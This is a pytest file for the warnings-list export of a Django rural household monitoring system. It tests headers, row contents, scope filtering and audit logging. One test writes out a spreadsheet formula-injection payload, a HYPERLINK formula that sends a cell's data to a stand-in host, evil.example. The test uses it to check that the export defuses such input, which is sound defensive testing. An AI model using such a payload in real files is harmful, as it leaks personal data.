"""The warnings export ``预警清单`` (DATA-FORMATS §4): exactly the fixed headers, one row per warning in the user's
scope and filters, IDs nowhere, and the export recorded in the audit log."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from conftest import NEIGHBOUR_VILLAGE, VILLAGE
from django.urls import reverse
from django.utils import timezone
from monitoring_factory import household, make_warning
from python_calamine import CalamineWorkbook

from fangfan.core.models import AuditEvent
from fangfan.monitoring import services
from fangfan.monitoring.exporting import HEADERS, warnings_export, warnings_export_region
from fangfan.monitoring.models import EarlyWarning
from fangfan.monitoring.rules import RULES

pytestmark = pytest.mark.django_db

EXPECTED_HEADERS = [
    "户编号",
    "户主姓名",
    "行政区划代码",
    "风险类型",
    "规则编码",
    "预警说明",
    "来源",
    "状态",
    "产生时间",
    "规则名称",  # after the fixed columns of §4: the rule's Chinese name
]


def _rows(data: bytes) -> list[list[str]]:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("预警清单")
    return [[str(c) for c in row] for row in sheet.to_python()]


def test_headers_are_exactly_data_formats_section_4():
    assert HEADERS == EXPECTED_HEADERS
    assert HEADERS[:9] == [
        "户编号",
        "户主姓名",
        "行政区划代码",
        "风险类型",
        "规则编码",
        "预警说明",
        "来源",
        "状态",
        "产生时间",
    ]


def test_export_rows(users, tmp_path):
    hh = household(number="HH0001", members=[("周一", date(1958, 8, 8), "户主")])
    w = make_warning(hh, rule_code="medical_self_paid", explanation="住院个人自付 8000 元，超过 6000 元")
    services.warning_report(
        household=hh,
        actor=users["village_clerk"],
        channel="city",
        risk_type="housing",
        description="市级反馈：住房漏雨",
    )
    path = tmp_path / "预警清单.xlsx"
    count = warnings_export(
        actor=users["town_station"],
        queryset=EarlyWarning.objects.for_user(users["town_station"], "warning.view"),
        path=path,
    )
    assert count == 2
    rows = _rows(path.read_bytes())
    assert rows[0] == EXPECTED_HEADERS
    first = rows[1]
    assert first[:8] == [
        "HH0001", "周一", VILLAGE, "因病", "medical_self_paid", "住院个人自付 8000 元，超过 6000 元", "部门筛查预警", "核查中",
    ]  # fmt: skip
    assert first[8] == timezone.localtime(EarlyWarning.objects.get(pk=w.pk).created_at).strftime(
        "%Y-%m-%d %H:%M:%S"
    )
    assert rows[2][3] == "因安全住房" and rows[2][4] == "" and rows[2][6] == "市级反馈预警"
    assert first[9] == RULES["medical_self_paid"].name and rows[2][9] == "人工登记"
    assert AuditEvent.objects.filter(action="warning.exported").exists()


def test_export_csv(users, tmp_path):
    make_warning(household())
    path = tmp_path / "warnings.csv"
    assert (
        warnings_export(
            actor=users["town_station"],
            queryset=EarlyWarning.objects.for_user(users["town_station"], "warning.view"),
            path=path,
        )
        == 1
    )
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == EXPECTED_HEADERS and len(rows) == 2


def test_csv_and_xlsx_never_run_a_typed_formula(users, tmp_path):
    """A description typed on the warning form reaches the export: a CSV opened in Excel must not run it."""
    attack = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
    services.warning_report(
        household=household(),
        actor=users["village_clerk"],
        channel="city",
        risk_type="housing",
        description=attack,
    )
    path = tmp_path / "warnings.csv"
    warnings_export(
        actor=users["town_station"],
        queryset=EarlyWarning.objects.for_user(users["town_station"], "warning.view"),
        path=path,
    )
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1][5] == "'" + attack
    path = tmp_path / "warnings.xlsx"
    warnings_export(
        actor=users["town_station"],
        queryset=EarlyWarning.objects.for_user(users["town_station"], "warning.view"),
        path=path,
    )
    assert _rows(path.read_bytes())[1][5] == attack  # a text cell, shown as typed


def test_web_export_follows_scope_and_filters(client, users):
    mine = make_warning(household(), risk_type="illness")
    make_warning(household(), risk_type="housing", source="housing")
    make_warning(household(NEIGHBOUR_VILLAGE), risk_type="illness")
    client.force_login(users["village_clerk"])
    response = client.get(reverse("monitoring:warning_export"), {"risk_type": "illness"})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    rows = _rows(b"".join(response.streaming_content))
    assert rows[0] == EXPECTED_HEADERS
    assert [r[0] for r in rows[1:]] == [mine.household.number]


def test_department_export_has_only_its_own_hits(client, users):
    own = make_warning(household(), source="medical")
    make_warning(household(), source="civil", risk_type="other")
    client.force_login(users["department"])
    rows = _rows(b"".join(client.get(reverse("monitoring:warning_export")).streaming_content))
    assert [r[0] for r in rows[1:]] == [own.household.number]


def test_command_entry_exports_a_region(users, tmp_path):
    from fangfan.accounts.models import User

    make_warning(household())
    make_warning(household(NEIGHBOUR_VILLAGE))
    operator = User.objects.cli_account("tester")
    path = tmp_path / "all.xlsx"
    assert warnings_export_region(actor=operator, path=path) == 2
    assert warnings_export_region(actor=operator, path=path, region_code=VILLAGE) == 1
    assert warnings_export_region(actor=users["neighbour_station"], path=path) == 1


def test_fangfan_export_warnings_command(users, tmp_path):
    from django.core.management import call_command

    from fangfan.core.exports import discover

    assert "warnings" in discover()
    make_warning(household())
    make_warning(household(NEIGHBOUR_VILLAGE))
    out = io.StringIO()
    path = tmp_path / "w.xlsx"
    call_command("export", "warnings", "-o", str(path), "--region", VILLAGE, stdout=out)
    assert "已导出 1 行" in out.getvalue()
    rows = _rows(path.read_bytes())
    assert rows[0] == EXPECTED_HEADERS and len(rows) == 2


def test_the_rules_filter_shows_chinese_names(users, client):
    from django.urls import reverse

    from fangfan.monitoring.screening import rules_sync

    rules_sync()
    client.force_login(users["town_station"])
    options = dict(client.get(reverse("monitoring:warning_list")).context["filters"].fields["rule"].choices)
    assert options["medical_self_paid"] == RULES["medical_self_paid"].name
    assert all(code not in label for code, label in options.items() if code)
